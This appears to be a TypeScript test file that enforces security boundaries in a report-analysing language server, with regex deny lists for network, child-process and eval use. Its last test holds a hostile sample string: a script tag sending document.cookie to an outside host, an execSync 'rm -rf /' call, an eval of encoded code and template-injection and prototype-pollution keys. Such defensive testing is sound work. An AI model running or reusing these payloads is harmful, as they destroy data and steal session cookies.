// DESIGN.md's boundaries: engine/ does no I/O and knows no protocol; only lsp/ knows the protocol.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, it } from 'node:test';
import { analyze } from '../../server/src/engine/analyze.ts';

const root = join(__dirname, '..', '..');

function sources(dir: string, extensions = ['.ts']): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? sources(path, extensions) : extensions.some((e) => name.endsWith(e)) ? [path] : [];
  });
}

function imports(file: string): string[] {
  const text = readFileSync(file, 'utf8');
  return [...text.matchAll(/^\s*(?:import|export)[^'"]*?from\s*['"]([^'"]+)['"]|^\s*import\s*['"]([^'"]+)['"]|import\(\s*['"]([^'"]+)['"]\s*\)|require\(\s*['"]([^'"]+)['"]\s*\)/gm)]
    .map((m) => m[1] ?? m[2] ?? m[3] ?? m[4] ?? '');
}

/** The product's own code: what ships in the extension and the CLI (not tests, tools or bench). */
const productDirs = ['server/src', 'client/src', 'shared/src'];

function productSources(): string[] {
  return productDirs.flatMap((dir) => {
    try {
      return sources(join(root, dir), ['.ts', '.tsx', '.js', '.mjs', '.cjs']);
    } catch {
      return []; // a folder not written yet
    }
  });
}

/** Code without its comments, so a comment may name what the code must not do. */
function code(file: string): string {
  return readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:'"\\])\/\/.*$/gm, '$1');
}

describe('boundaries', () => {
  it('engine/ imports no I/O, protocol or editor module, and nothing outside engine/', () => {
    const forbidden = /^(node:)?(fs|fs\/promises|child_process|net|http|https|worker_threads|dgram|tls|os)$|^vscode|^vscode-languageserver|^vscode-languageclient|^vscode-jsonrpc/;
    const engine = join(root, 'server', 'src', 'engine');
    const files = sources(engine);
    assert.ok(files.length > 10);
    for (const file of files) {
      for (const spec of imports(file)) {
        assert.ok(!forbidden.test(spec), `${relative(root, file)} imports ${spec}`);
        if (spec.startsWith('.')) assert.ok(!relative(engine, join(file, '..', spec)).startsWith('..'), `${relative(root, file)} reaches outside engine/: ${spec}`);
      }
    }
  });

  it('engine/ and lsp/ load no ICU collator or Intl service (about 3 MB of the server\'s memory each)', () => {
    // The first localeCompare or Intl object loads ICU data into the process for good: measured
    // 39.2 → 42.1 MB in a bare node. The server's budget is 60 MB; the CLI's folder order may use one.
    const files = ['engine', 'lsp'].flatMap((dir) => sources(join(root, 'server', 'src', dir)));
    assert.ok(files.length > 50);
    for (const file of files) assert.ok(!/\blocaleCompare\s*\(|\bIntl\s*\.|\btoLocale\w*String\s*\(/.test(code(file)), relative(root, file));
  });

  it('no eval or new Function anywhere in the product', () => {
    const files = productSources();
    assert.ok(files.length > 50);
    for (const file of files) {
      assert.ok(!/\beval\s*\(|new\s+Function\s*\(|\bFunction\s*\(\s*['"`]|set(?:Timeout|Interval)\s*\(\s*['"`]/.test(code(file)), relative(root, file));
    }
  });

  // Issue 9, hostile input: a report is read, never acted on. The product opens no connection and
  // starts no program, so a crafted report has nothing to reach.
  it('no network access and no child processes anywhere in the product', () => {
    const forbidden = /^(node:)?(http|https|http2|net|dgram|tls|dns|dns\/promises|child_process|inspector)$|^(node-fetch|axios|undici|got|ws|request|superagent)(\/|$)/;
    const files = productSources();
    for (const file of files) {
      for (const spec of imports(file)) assert.ok(!forbidden.test(spec), `${relative(root, file)} imports ${spec}`);
      const text = code(file);
      for (const call of [/\bfetch\s*\(/, /\bXMLHttpRequest\b/, /\bWebSocket\b/, /\bEventSource\b/, /\bsendBeacon\b/, /\bprocess\.binding\b/]) {
        assert.ok(!call.test(text), `${relative(root, file)} uses ${call.source}`);
      }
    }
  });

  it('PDF reading runs no font program through eval and loads its data from the extension, not the web', () => {
    const file = join(root, 'server', 'src', 'documents', 'pdf.ts');
    let text: string;
    try {
      text = code(file);
    } catch {
      return; // no PDF support built
    }
    assert.match(text, /isEvalSupported:\s*false/);
    assert.doesNotMatch(text, /Url:\s*['"`]https?:/);
  });

  it('analysing script-like text runs none of it and pollutes no prototype', () => {
    // A report may contain anything a web page or a script would: to the engine it is only text.
    const hostile = '<script>fetch("https://example.com/"+document.cookie)</script>${process.exit(1)}`; require("child_process").execSync("rm -rf /");` eval(atob("YWxlcnQoMSk=")) {{constructor.constructor("return process")()}} __proto__ constructor prototype';
    const before = Object.keys(Object.prototype).length;
    const analysis = analyze(hostile + '\n' + hostile.repeat(100));
    assert.equal(Object.keys(Object.prototype).length, before, 'nothing polluted Object.prototype');
    assert.ok(Array.isArray(analysis.findings));
  });
});
